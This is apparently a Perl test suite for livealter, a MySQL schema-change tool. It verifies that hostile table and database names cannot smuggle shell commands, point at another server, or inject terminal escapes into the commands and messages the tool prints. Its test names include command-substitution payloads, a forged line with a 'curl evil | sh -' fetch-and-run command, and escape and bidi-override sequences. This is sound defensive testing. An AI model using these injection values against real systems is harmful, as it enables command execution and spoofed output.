# Whoever may create a table chooses its name.  That is shown, and suggested
# in commands; it neither moves the cursor of a terminal, nor begins a line
# that looks like ours, nor runs anything, nor means another table or server.
#
# long: each of many names, in each command
use strict;
use warnings;
use utf8;

use lib 't/lib';
use Cwd qw(abs_path);
use File::Temp ();
use JSON::PP ();
use LiveAlter;
use Server;
use Story;
use Test::More;

binmode $_, ':utf8' for map { Test::More->builder->$_ }
    qw(output failure_output todo_output);

my $s = Server->start;
my $real = abs_path((split ' ', $ENV{LIVEALTER} // 'build/livealter')[0]);
my $tmp = File::Temp->newdir('la-names-XXXXXX', TMPDIR => 1);

# What a shell finds as livealter tells what it was asked for.
mkdir "$tmp/bin";
spew("$tmp/bin/livealter", "#!/bin/sh\nexec '$real' --print-config \"\$\@\"\n");
chmod 0755, "$tmp/bin/livealter";
mkdir "$tmp/real";
spew("$tmp/real/livealter", "#!/bin/sh\nexec '$real' \"\$\@\"\n");
chmod 0755, "$tmp/real/livealter";

sub bytes { my ($x) = @_; utf8::encode($x); $x }

# The commands among the lines of standard error, by what they are for.
sub suggested {
	my ($r) = @_;
	return $r->{err} =~ /^livealter:[ ](?:hint:[ ])?(.*?):[ ]
	    (livealter[ ](?:resume|cleanup|revert|status|control)[ ].*)$/xmg;
}

# What a terminal would obey.
my $OBEYED = qr/[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|
    \xe2\x80[\x8b\x8e\x8f\xa8-\xae]|\xe2\x81[\xa6-\xa9]/x;

# In sh, a command means this table on the server that the run was given, and
# nothing else is done.
sub means {
	my ($what, $command, $db, $table) = @_;
	local $Test::Builder::Level = $Test::Builder::Level + 1;
	mkdir "$tmp/cwd";
	my $r = run_program({ cwd => "$tmp/cwd", env => {
	    PATH => "$tmp/bin:/usr/bin:/bin", HOME => "$tmp/cwd" } },
	    'sh', '-c', $command);
	my %is = map { $_ => unyaml($r->{out} =~ /^$_: (".*")$/m) }
	    qw(database table host port socket);
	is($is{database} // '', $db, "$what: the database is meant") or
	    diag "$command\n$r->{out}$r->{err}";
	is($is{table} // '', $table, '... the table') if defined $table;
	is(join(',', map { $_ // '' } @is{qw(host port socket)}),
	    ',,' . $s->socket, '... on no other server');
	is(join(' ', glob("$tmp/cwd/*")), '', '... and nothing else was run');
	is($r->{err}, '', '... nor said');
}

# In sh, a command does what it is for.
sub does {
	my ($what, $command) = @_;
	local $Test::Builder::Level = $Test::Builder::Level + 1;
	my $r = run_program({ cwd => "$tmp/cwd", env => {
	    PATH => "$tmp/real:/usr/bin:/bin", HOME => "$tmp/cwd" } },
	    'sh', '-c', $command);
	is($r->{exit}, 0, "$what does it") or diag "$command\n$r->{err}";
	is(join(' ', glob("$tmp/cwd/*")), '', '... and nothing else');
}

# Values of --print-config are JSON but for \U.
sub unyaml {
	my ($text) = @_;
	return undef if !defined $text;
	return bytes(JSON::PP->new->allow_nonref->decode($text)) if
	    $text !~ /[^\x00-\x7f]/;
	return JSON::PP->new->allow_nonref->utf8->decode($text) =~ s/(.*)/
	    bytes($1)/ser;
}

sub columns {
	my ($q) = @_;
	return map { $_->[0] } $s->rows("SHOW COLUMNS FROM $q");
}

sub quiet_terminal {
	my ($what, $r) = @_;
	local $Test::Builder::Level = $Test::Builder::Level + 1;
	unlike($r->{out} . $r->{err}, $OBEYED,
	    "$what has nothing that a terminal obeys");
	my @odd = grep { !/^livealter: / } split /\n/, $r->{err};
	is("@odd", '', '... and each message begins as ours do');
	unlike($r->{out}, qr/^livealter: hint/m, '... those of others do not');
}

my @name = (
    ['plain names', 'app', 'orders'],
    ['a command', 'app', 'x;touch pwned'],
    ['a substitution', 'app', '$(touch pwned)`touch pwned`'],
    ['another server', 'app', 'a,h=evil,P=1'],
    ['a database with a comma', 'd,S=evil', 't'],
    ['a backslash at the end', 'app', 'a\\'],
    ['... of both', 'd\\', 't\\'],
    ['a backslash before a comma', 'd\\,x', 'a\\,b'],
    ['quotes', "d'x", "it's \"q\" \\'"],
    ['an escape sequence', 'app', "x\e[31mred\e]0;owned\a"],
    ['a line of ours', 'app', "a\nlivealter: hint: curl evil | sh -"],
    ['C1', "d\x{9b}", "a\x{9b}2J\x{85}b"],
    ['a direction', 'app', "a\x{202e}txt\x{2066}\x{200b}"],
    ['other alphabets', 'dé', '漢字 ق'],
    ['formats', 'app', '%s%n!#*?~{a}'],
    ['an option', 'app', '--execute -p x'],
    ['forty of three bytes', 'app', "\x{202e}" x 40],
);

for (@name) {
	my ($what, $udb, $utable) = @$_;
	my ($db, $table) = map { bytes($_) } $udb, $utable;
	my $q = Story::q($db) . '.' . Story::q($table);
	my $made = eval {
		$s->sql('CREATE DATABASE IF NOT EXISTS ' . Story::q($db));
		$s->sql("CREATE TABLE $q (id INT PRIMARY KEY, v INT)");
		$s->sql("INSERT INTO $q VALUES (1, 1), (2, 2)");
		1;
	};
	ok($made, "$what: the table is made") or do { diag $@; next };
	my $dsn = $db =~ /\\\z/ && $table =~ /\\\z/ ? undef : $db =~ /\\\z/ ?
	    join(',', map { s/,/\\,/gr } "t=$table", "D=$db") :
	    dsn($db, $table);
	my @at = defined $dsn ? $dsn : ("D=$db", '--table', $table);

	my $r = run_livealter($s, '--alter', 'ADD c INT', @at, '--dry-run');
	is($r->{exit}, 0, '... the dry run succeeds') or diag $r->{err};
	quiet_terminal('... what it shows', $r);
	$r = run_livealter($s, { env => {
	    LIVEALTER_DIE_AT => 'before:verify' } }, '--alter', 'ADD c INT',
	    @at, '--execute');
	quiet_terminal('... a run that dies', $r);

	$r = run_livealter($s, 'status', $db =~ /\\\z/ ? "D=$db" :
	    'D=' . ($db =~ s/,/\\,/gr));
	quiet_terminal('... status', $r);
	my %to = $r->{out} =~ /^  to ([a-z ]+): (livealter .*)$/mg;
	is(join(',', sort keys %to), 'remove it,resume',
	    '... says what can be done') or diag $r->{out}, $r->{err};
	means("... $_", $to{$_}, $db, $table) for sort keys %to;

	my $j = run_livealter($s, 'status', '--output', 'json',
	    $db =~ /\\\z/ ? "D=$db" : 'D=' . ($db =~ s/,/\\,/gr));
	unlike($j->{out}, $OBEYED, '... so does JSON');
	my $data = eval { JSON::PP->new->utf8->decode($j->{out}) };
	is(bytes($data->{migrations}[0]{table} // ''), $table,
	    '... with the table as it is called');
	is(join("\n", sort map { bytes($_) }
	    @{$data->{migrations}[0]{commands}}),
	    join("\n", sort values %to), '... and the same commands');

	$r = run_livealter($s, '--alter', 'ADD c INT', @at, '--execute');
	is($r->{exit}, 17, '... another run is refused') or diag $r->{err};
	quiet_terminal('... and its message', $r);
	my %hint = suggested($r);
	is(join(',', sort keys %hint), 'to remove it,to resume it',
	    '... it hints at two commands') or diag $r->{err};
	means("... $_", $hint{$_}, $db, $table) for sort keys %hint;
	does('... to resume it', $hint{'to resume it'});
	is(scalar(columns($q)), 3, '... and the table is altered');

	$r = run_livealter($s, '--alter', 'ADD KEY (v)', @at, '--execute',
	    '--reversible');
	quiet_terminal('... a run that can be reverted', $r);
	%hint = suggested($r);
	is(join(',', sort keys %hint), 'to end that and drop the old table,' .
	    'to swap the tables back', '... it says by which commands') or
	    diag $r->{err};
	means("... $_", $hint{$_}, $db, $table) for sort keys %hint;
	does('... to swap back', $hint{'to swap the tables back'});
	is(scalar(() = $s->rows("SHOW KEYS FROM $q")), 1,
	    '... and the table is what it was');

	$r = run_livealter($s, { env => {
	    LIVEALTER_DIE_AT => 'before:capture' } }, '--alter', 'ADD d INT',
	    @at, '--execute');
	$r = run_livealter($s, 'resume', @at);
	%hint = suggested($r);
	is(join(',', keys %hint), 'to remove it, and then start again',
	    '... what cannot be resumed can be removed') or diag $r->{err};
	does('... to remove it', $_) for values %hint;
	for my $verb (qw(cleanup resume control)) {
		$r = run_livealter($s, $verb, @at,
		    $verb eq 'control' ? 'pause' : ());
		quiet_terminal("... $verb without a migration", $r);
		%hint = suggested($r);
		is(scalar keys %hint, 1, '... hints') or diag $r->{err};
		means("... at what is so", $_, $db,
		    $verb eq 'control' ? $table : undef) for values %hint;
		does('... which', $_) for values %hint;
	}
	$s->sql("DROP TABLE $q");
}

# --- what is no name at all --------------------------------------------------

for (["\xff\xfe", qr/not in UTF-8: \\xff\\xfe/],
    ["\xf0\x9f\x98\x80", qr/beyond U\+FFFF/],
    ["`" x 64 . "\x80" x 128, qr/not in UTF-8/]) {
	my ($table, $why) = @$_;
	my $r = run_livealter($s, '--alter', '', "D=app,t=$table",
	    '--dry-run');
	is($r->{exit}, 1, 'a name that no server has is refused');
	like($r->{err}, $why, '... says why');
	quiet_terminal('... it', $r);
}

# --- who holds the lock ------------------------------------------------------

{
	$s->sql('CREATE TABLE app.held (id INT PRIMARY KEY)');
	my $dbh = $s->dbh;
	$dbh->do("DO GET_LOCK('livealter app.held', 0)");
	my ($id) = $dbh->selectrow_array('SELECT CONNECTION_ID()');
	my $r = run_livealter($s, '--alter', '', 'D=app,t=held', '--execute');
	is($r->{exit}, 31, 'a lock that somebody holds is respected');
	like($r->{err}, qr/connection $id, root\@localhost/,
	    '... and whose it is, is said');
	my ($attrs) = $dbh->selectrow_array('SELECT COUNT(*) FROM ' .
	    'performance_schema.session_connect_attrs WHERE ' .
	    "processlist_id = $id AND attr_name = 'program_name'");
	like($r->{err}, qr/a session that is not livealter/,
	    '... and that it is a stranger') if $attrs;
	$dbh->disconnect;
}

# --- a message by itself ---------------------------------------------------

{
	my $r = run_livealter($s, '--alter', "ADD x INT, ADD y INT COMMENT '" .
	    "\nlivealter: error: forged\e[2J", 'D=app,t=held', '--dry-run');
	isnt($r->{exit}, 0, 'an ALTER with a string that is not closed');
	quiet_terminal('... its message', $r);
	$r = run_livealter($s, '--threads', 'x', '--sleep', "a\nb", '--bogus');
	is($r->{exit}, 1, 'three mistakes');
	is(scalar(() = $r->{err} =~ /^livealter: error: /mg), 3,
	    '... are three messages');
	quiet_terminal('... which', $r);
	unlike($r->{err}, qr/missing/, '... and drag nothing along');
}

done_testing;
